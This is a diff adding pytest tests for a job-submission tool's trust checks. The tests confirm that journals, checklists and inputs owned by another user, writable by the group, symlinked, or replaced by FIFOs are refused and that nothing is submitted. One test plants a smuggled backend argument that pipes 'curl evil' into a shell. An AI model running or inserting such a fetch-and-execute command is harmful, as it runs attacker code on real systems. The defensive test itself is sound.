@@ -1,0 +1,94 @@
+"""Trust: a submission's journal, plans, checklist and frozen inputs are used only when they
+are this user's, writable by it alone, and regular files; anything else is refused in one
+line, a FIFO without blocking, and nothing is submitted."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+
+import pytest
+
+from tests.submit.campaign import Campaign
+
+
+def _refused(done: subprocess.CompletedProcess[str], *needles: str) -> None:
+    assert done.returncode == 2, done.stdout + done.stderr
+    [line] = done.stderr.splitlines()
+    assert line.startswith("haico: ")
+    for needle in needles:
+        assert needle in line, line
+
+
+@pytest.fixture
+def timed_out(campaign: Campaign) -> Campaign:
+    """A smoke stage whose task 1 ran out of walltime: `continue` would rerun it."""
+    campaign.slurm.end(campaign.smoke_long(), 1, "TIMEOUT")
+    return campaign
+
+
+def test_a_journal_another_user_owns_is_refused_with_the_command_it_plants(
+    timed_out: Campaign,
+) -> None:
+    journal = timed_out.submission().journal
+    entries = [json.loads(line) for line in journal.read_text().splitlines()]
+    planted = "--haico-backend-cmd=sh -c 'curl evil | sh'"
+    entries[0]["plan"]["pytest_args"].append(planted)
+    journal.write_text("".join(json.dumps(entry) + "\n" for entry in entries))
+    os.chown(journal, 65534, 65534)
+    before = timed_out.slurm.jobs()
+
+    done = timed_out.haico("continue", "demo")
+    _refused(done, f"{journal} is owned by uid 65534", "yours and writable by you alone")
+    assert timed_out.slurm.jobs() == before, "something was submitted"
+
+    # Owned by this user again but writable by its group: refused too.
+    os.chown(journal, os.getuid(), os.getgid())
+    journal.chmod(0o660)
+    _refused(timed_out.haico("continue", "demo"), "is writable by group (mode 0660)")
+
+
+def test_a_fifo_in_place_of_the_journal_is_refused_without_blocking(timed_out: Campaign) -> None:
+    journal = timed_out.submission().journal
+    journal.unlink()
+    os.mkfifo(journal, 0o600)
+    _refused(timed_out.haico("continue", "demo"), f"{journal} is not a regular file")
+    _refused(
+        timed_out.haico("submit", "demo", "--stage", "smoke", "--stratum", "long"),
+        f"{journal} is not a regular file",
+    )
+
+
+@pytest.mark.parametrize("planted", ["group-writable input", "symlinked checklist"])
+def test_a_frozen_input_or_checklist_another_user_could_change_is_refused(
+    timed_out: Campaign, planted: str
+) -> None:
+    submission = timed_out.submission()
+    if planted == "group-writable input":
+        target = next((submission.experiments / "scripts").iterdir())
+        target.chmod(0o664)
+        problem = "is writable by group (mode 0664)"
+    else:
+        target = submission.checklist
+        target.unlink()
+        target.symlink_to("/etc/hostname")
+        problem = "is a symbolic link"
+    before = timed_out.slurm.jobs()
+    _refused(timed_out.haico("continue", "demo"), f"{target} {problem}")
+    assert timed_out.slurm.jobs() == before
+
+
+def test_a_submission_frozen_under_a_group_writable_umask_is_still_this_users_alone(
+    campaign: Campaign,
+) -> None:
+    done = campaign.haico("submit", "demo", "--stage", "smoke", "--stratum", "long", umask=0o002)
+    assert done.returncode == 0, done.stderr
+    again = campaign.haico("continue", "demo", umask=0o002)
+    assert again.returncode == 0, again.stderr
+    modes = {
+        path.relative_to(campaign.submission().dir): path.stat().st_mode & 0o022
+        for path in campaign.submission().dir.rglob("*")
+        if path.parent.name != "logs"
+    }
+    assert set(modes.values()) == {0}, modes
